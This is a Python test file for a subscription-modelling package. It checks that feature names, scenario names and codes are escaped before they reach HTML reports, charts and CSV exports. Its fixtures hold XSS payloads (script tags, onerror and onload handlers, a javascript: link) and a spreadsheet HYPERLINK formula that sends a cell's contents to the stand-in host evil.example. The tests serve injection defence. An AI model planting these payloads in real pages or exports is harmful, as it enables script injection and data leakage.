"""Everything people read is inert: data and scenario names never become markup, exports never formulas.

The end-to-end checks (payloads through the report notebooks, parsed HTML and a real
browser) are in ``test_reports.py``, on the one shared report run; these are the fast
checks of each path by which text from data or configuration reaches a reader.
"""

from __future__ import annotations

import csv
import shutil
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd
import pytest

from subs_model import insights
from subs_model import plots as P
from subs_model.cli import main
from subs_model.io import read_ledger

ROOT = Path(__file__).resolve().parents[1]
HANDMADE = ROOT / "tests/data/handmade"
PAYLOADS = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(2)</script>",
    '"><svg onload=alert(3)>',
    "[click](javascript:alert(4))",
]
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"open")'


class _Elements(HTMLParser):
    """Every start tag and attribute of an HTML text, and the text of its inline scripts."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.scripts: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        self._in_script = tag == "script"

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        if self._in_script:
            self.scripts.append(data)


def live_payload(html_text: str) -> list[str]:
    """What of the payloads became live HTML: elements, event handlers, javascript: links, scripts."""
    p = _Elements()
    p.feed(html_text)
    found = []
    for tag, attrs in p.tags:
        if tag == "img" and attrs.get("src") == "x":
            found.append("img src=x")
        if tag == "svg" and "onload" in attrs:
            found.append("svg onload")
        found += [f"{tag} {k}" for k, v in attrs.items() if k.startswith("on") and v and "alert(" in v]
        found += [f"{tag} {k}=javascript:" for k, v in attrs.items() if v and v.strip().lower().startswith("javascript:")]
    found += [f"script {s.strip()!r}" for s in p.scripts if s.strip() in ("alert(2)", "alert(1)", "alert(3)")]
    return found


def test_the_checker_sees_live_payloads() -> None:
    """The parser-based check flags each payload when it is pasted raw (so the report tests can fail)."""
    for payload in PAYLOADS[:3]:
        assert live_payload(f"<p>{payload}</p>"), payload
    assert live_payload('<a href="javascript:alert(4)">x</a>')
    assert live_payload("<p>&lt;img src=x onerror=alert(1)&gt;</p>") == []


def test_safe_text_escapes_html_and_markdown_syntax() -> None:
    """safe_text makes `&`, `<`, `>` entities; in Markdown mode punctuation is backslash-escaped, lines joined."""
    assert P.safe_text("<b>a & b</b>") == "&lt;b&gt;a &amp; b&lt;/b&gt;"
    assert P.safe_text("a\n# b", markdown=True) == "a \\# b"
    assert P.safe_text("$x$ *y* [z](u)", markdown=True) == "\\$x\\$ \\*y\\* \\[z\\]\\(u\\)"


@pytest.fixture(scope="module")
def payload_ledger(tmp_path_factory) -> Path:
    """The hand-made ledger whose feature names are the payloads, all released while some license was uncovered."""
    d = tmp_path_factory.mktemp("ledger") / "handmade"
    shutil.copytree(HANDMADE, d)
    f = pd.read_csv(d / "features.csv", dtype=str)
    f["name"] = PAYLOADS
    f["released_on"] = "2025-09-01"
    f["requires_subscription"] = "True"
    f.to_csv(d / "features.csv", index=False)
    return d


def _render_markdown(text: str) -> str:
    """A note rendered to HTML the way the reports render it (nbconvert's Markdown filter)."""
    from nbconvert.filters.markdown import markdown2html

    return markdown2html(text)


def test_feature_names_in_the_grace_note_render_as_text(payload_ledger) -> None:
    """The features note lists every payload name as plain text once rendered; no markup, no link survives."""
    page = insights.grace_usage_page(data=str(payload_ledger), catalog=str(ROOT / "data/catalog.yaml"), lang="en")
    note = page.notes["features"]
    rendered = _render_markdown(note)
    assert live_payload(rendered) == []
    assert "<a" not in rendered
    shown = _Elements()
    text = []
    shown.handle_data = text.append  # type: ignore[method-assign]
    shown.feed(rendered)
    for payload in PAYLOADS:
        assert payload in "".join(text), payload  # shown to the reader exactly as written
    # The table keeps the raw names (pandas escapes them when it renders HTML).
    assert page.tables["features"]["name"].tolist() == PAYLOADS
    html_table = page.tables["features"]._repr_html_()
    assert live_payload(html_table) == [] and "&lt;script&gt;alert(2)&lt;/script&gt;" in html_table


def test_scenario_names_escaped_in_chart_labels() -> None:
    """Scenario names become legend names with `<`, `>`, `&` as entities (plotly renders a subset of HTML)."""
    months = pd.date_range("2027-01-31", periods=2, freq="ME")
    table = pd.DataFrame([{"scenario": n, "metric": "bookings", "month": m, "mean": 1.0, "p05": 0.0, "p95": 2.0}
                          for n in PAYLOADS for m in months])
    fig = P.fig_scenario_fan(table, "bookings", "en")
    names = [t.name for t in fig.data if t.showlegend is not False]
    assert names == [P.safe_text(n) for n in PAYLOADS]
    assert not any("<" in (t.name or "") + str(t.legendgroup or "") for t in fig.data)
    sens = pd.DataFrame({"knob": ["<b>k</b>", "<b>k</b>"], "value": [1.0, 2.0], "bookings_diff_pct": [-0.1, 0.1]})
    tornado = P.fig_tornado(sens, "en")
    assert all("<" not in y for t in tornado.data for y in t.y) and all("<" not in x for t in tornado.data for x in t.text)


def _ledger_with_formula_code(tmp_path: Path) -> Path:
    d = tmp_path / "ledger"
    shutil.copytree(HANDMADE, d)
    for name in ("orders", "activations"):
        df = pd.read_csv(d / f"{name}.csv", dtype=str, keep_default_na=False)
        df["code"] = df["code"].replace("KS5-00001", FORMULA)
        df.to_csv(d / f"{name}.csv", index=False)
    return d


def test_replay_out_is_formula_safe(tmp_path) -> None:
    """`replay --out` writes its CSVs through the formula-safe writer: a code like =HYPERLINK(...) is text."""
    data = _ledger_with_formula_code(tmp_path)
    out = tmp_path / "out"
    assert main(["replay", str(data), "--as-of", "2026-06-30", "--out", str(out)]) == 0
    with (out / "codes.csv").open(encoding="utf-8-sig", newline="") as fh:
        codes = [row["code"] for row in csv.DictReader(fh)]
    with (out / "periods.csv").open(encoding="utf-8-sig", newline="") as fh:
        periods = [row["code"] for row in csv.DictReader(fh)]
    for column in (codes, periods):
        assert "'" + FORMULA in column
        assert not any(c.startswith(("=", "+", "-", "@")) for c in column)
    assert {p.name for p in out.iterdir()} == {"periods.csv", "codes.csv", "rejections.csv"}


def test_ledger_write_keeps_machine_files_byte_exact(tmp_path) -> None:
    """Ledger.write is for machines: the same code is written raw and reads back unchanged."""
    led = read_ledger(_ledger_with_formula_code(tmp_path))
    assert FORMULA in set(led.orders["code"].astype("str"))
    led.write(tmp_path / "copy", format="csv")
    back = read_ledger(tmp_path / "copy")
    assert FORMULA in set(back.orders["code"].astype("str"))
    assert "'" + FORMULA not in (tmp_path / "copy" / "orders.csv").read_text(encoding="utf-8")
